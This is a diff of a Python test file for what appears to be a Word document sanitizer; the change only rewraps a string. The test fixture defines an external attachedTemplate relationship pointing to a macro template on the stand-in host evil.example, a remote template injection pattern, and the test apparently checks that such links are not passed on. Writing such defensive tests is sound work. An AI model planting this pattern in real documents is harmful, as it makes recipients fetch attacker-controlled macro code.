@@ -321,7 +321,8 @@ def test_a_macro_is_not_handed_on() -> None:
 def test_a_remote_template_is_not_handed_on() -> None:
     rels = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        '<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        '<Relationship Id="t" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
         'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
     )
     source = Docx(
